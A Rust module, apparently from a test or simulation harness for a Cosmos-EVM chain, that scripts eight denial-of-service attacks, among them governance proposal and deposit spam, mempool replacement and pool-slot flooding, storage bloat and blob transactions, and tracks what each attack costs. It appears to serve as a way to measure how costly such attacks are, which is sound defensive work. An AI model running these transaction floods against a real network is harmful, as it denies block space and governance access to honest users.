//! The attacks. One account or a group of accounts pays for each attack.

use super::{
    account::Account,
    world::{ETHER, POOL_SLOTS, World},
};
use crate::common::{
    CHAIN_ID,
    signed::{any, coins, slower_market},
};
use alloy_consensus::{TxEip1559, TxEip4844};
use alloy_primitives::{Address, B256, Bytes, TxKind, U256, hex};
use proto::cosmos::gov::v1::{MsgDeposit, MsgSubmitProposal, MsgVote};

/// The balance of an attacker that has one account, in wei.
const FUNDS: u128 = ETHER;
/// Number of accounts in the deposit attack: more than the maximum number of depositors of a proposal (100).
const ACCOMPLICES: usize = 110;
/// Number of proposals without a deposit in each transaction. The gas of the transaction limits this number.
const PROPOSALS: usize = 3;
/// Number of such transactions per step.
const PROPOSAL_TXS: u64 = 4;
/// Number of replacements of one transaction per step.
const REPLACEMENTS: usize = 10;
/// Init code that stores to a hundred slots: a loop from 100 down to 1 with SSTORE.
const STORING: [u8; 16] = hex!("60645b80805560019003806002570000");
/// A gas limit that suffices for [`STORING`].
const STORING_GAS: u64 = 2_600_000;
/// A gas limit above what the other transactions leave in a block, so that the transaction waits.
const WIDE_GAS: u64 = 20_000_000;
const GWEI: u128 = 1_000_000_000;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    Proposals,
    Deposits,
    Votes,
    Fees,
    Replacements,
    PoolSlots,
    Storage,
    Blobs,
}

impl Attack {
    pub(super) const ALL: [Self; 8] = [
        Self::Proposals,
        Self::Deposits,
        Self::Votes,
        Self::Fees,
        Self::Replacements,
        Self::PoolSlots,
        Self::Storage,
        Self::Blobs,
    ];

    /// Returns the resource that the attack takes away from others.
    pub(super) const fn resource(self) -> &'static str {
        match self {
            Self::Proposals => "proposal slots",
            Self::Deposits => "depositors of a proposal",
            Self::Votes => "votes of a proposal",
            Self::Fees => "block space",
            Self::Replacements => "replacement in the pool",
            Self::PoolSlots => "pool slots",
            Self::Storage => "disk",
            Self::Blobs => "blobs",
        }
    }
}

pub(super) struct Attacker {
    attack: Attack,
    accounts: Vec<Account>,
    /// Number of accounts that have not yet deposited on the newest proposal.
    fresh: usize,
    target: u64,
}

impl Attacker {
    pub(super) fn new(attack: Attack, time: &str) -> Self {
        let count = if attack == Attack::Deposits { ACCOMPLICES } else { 1 };
        let accounts = (0..count).map(|n| Account::new(&format!("{attack:?} {time} {n}")));
        Self { attack, accounts: accounts.collect(), fresh: 0, target: 0 }
    }

    /// Returns the accounts of the attacker, with their initial balances.
    pub(super) fn accounts(&self) -> impl Iterator<Item = (&Account, u128)> {
        // The balance is divided among the accounts. Each account pays fees, so a group has twice as much in total.
        let each =
            if self.accounts.len() == 1 { FUNDS } else { 2 * FUNDS / self.accounts.len() as u128 };
        self.accounts.iter().map(move |account| (account, each))
    }

    /// Returns the amount spent so far, in wei. Deposits that may still be returned count as spent.
    pub(super) fn spent(&self, world: &World) -> U256 {
        let spent =
            |(account, owned): (&Account, u128)| U256::from(owned) - world.balance(account.address);
        self.accounts().map(spent).sum()
    }

    /// Performs one step of the attack. `target` is a proposal of an honest user.
    pub(super) async fn act(&mut self, world: &World, target: u64) {
        let price = world.price().await;
        let account = &self.accounts[0];
        let nonce = world.nonce(account).await;
        match self.attack {
            Attack::Proposals => {
                for step in 0..PROPOSAL_TXS {
                    let proposal = MsgSubmitProposal {
                        initial_deposit: Vec::new(),
                        proposer: account.bech32(),
                        ..slower_market("1000000000000000000000000000")
                    };
                    let messages = vec![any(&proposal); PROPOSALS];
                    send(world, account.cosmos(nonce + step, price, messages)).await;
                }
            }
            Attack::Deposits => self.pay_into(world, target, price).await,
            Attack::Votes if target > 0 => {
                let vote = MsgVote {
                    proposal_id: target,
                    voter: account.bech32(),
                    option: 1,
                    ..MsgVote::default()
                };
                send(world, account.cosmos(nonce, price, vec![any(&vote)])).await;
            }
            Attack::Votes => {}
            Attack::Fees => send(world, account.ethereum(transfer(nonce, 1_000 * GWEI))).await,
            Attack::Replacements => {
                // The transactions are behind a nonce gap, so none of them is ever mined.
                for step in 0..REPLACEMENTS {
                    let price = price * 11_u128.pow(step as u32) / 10_u128.pow(step as u32) + 1;
                    send(world, account.ethereum(transfer(nonce + 1, price))).await;
                }
            }
            Attack::PoolSlots => {
                for step in 0..POOL_SLOTS as u64 {
                    let wide = TxEip1559 { gas_limit: WIDE_GAS, ..transfer(nonce + step, price) };
                    send(world, account.ethereum(wide)).await;
                    send(world, account.ethereum(transfer(nonce + 200 + step, price))).await;
                }
            }
            Attack::Storage => {
                let tx = TxEip1559 {
                    gas_limit: STORING_GAS,
                    to: TxKind::Create,
                    value: U256::ZERO,
                    input: STORING.into(),
                    ..transfer(nonce, price)
                };
                send(world, account.ethereum(tx)).await;
            }
            Attack::Blobs => {
                let tx = TxEip4844 {
                    chain_id: CHAIN_ID,
                    nonce,
                    gas_limit: 21_000,
                    max_fee_per_gas: price,
                    max_priority_fee_per_gas: price,
                    to: Address::ZERO,
                    blob_versioned_hashes: vec![B256::with_last_byte(1); 6],
                    max_fee_per_blob_gas: price,
                    ..TxEip4844::default()
                };
                send(world, account.ethereum(tx)).await;
            }
        }
    }

    /// Deposits 1 atest from each account on each new proposal, with half of the accounts per step.
    async fn pay_into(&mut self, world: &World, target: u64, price: u128) {
        if target > self.target {
            (self.target, self.fresh) = (target, self.accounts.len());
        }
        let paying = self.fresh.min(ACCOMPLICES / 2);
        for account in &self.accounts[self.fresh - paying..self.fresh] {
            let deposit =
                MsgDeposit { proposal_id: target, depositor: account.bech32(), amount: coins(1) };
            let sequence = world.nonce(account).await;
            send(world, account.cosmos(sequence, price, vec![any(&deposit)])).await;
        }
        self.fresh -= paying;
    }
}

/// Submits a transaction of an attacker. It does not matter whether it is accepted.
async fn send(world: &World, raw: Bytes) {
    drop(world.client.submit(raw).await);
}

/// Returns a transfer of 1 wei with an effective gas price of `price`, in wei per gas, whatever the base fee is.
pub(super) fn transfer(nonce: u64, price: u128) -> TxEip1559 {
    TxEip1559 {
        chain_id: CHAIN_ID,
        nonce,
        gas_limit: 21_000,
        max_fee_per_gas: price,
        max_priority_fee_per_gas: price,
        to: TxKind::Call(Address::repeat_byte(0x77)),
        value: U256::ONE,
        ..TxEip1559::default()
    }
}
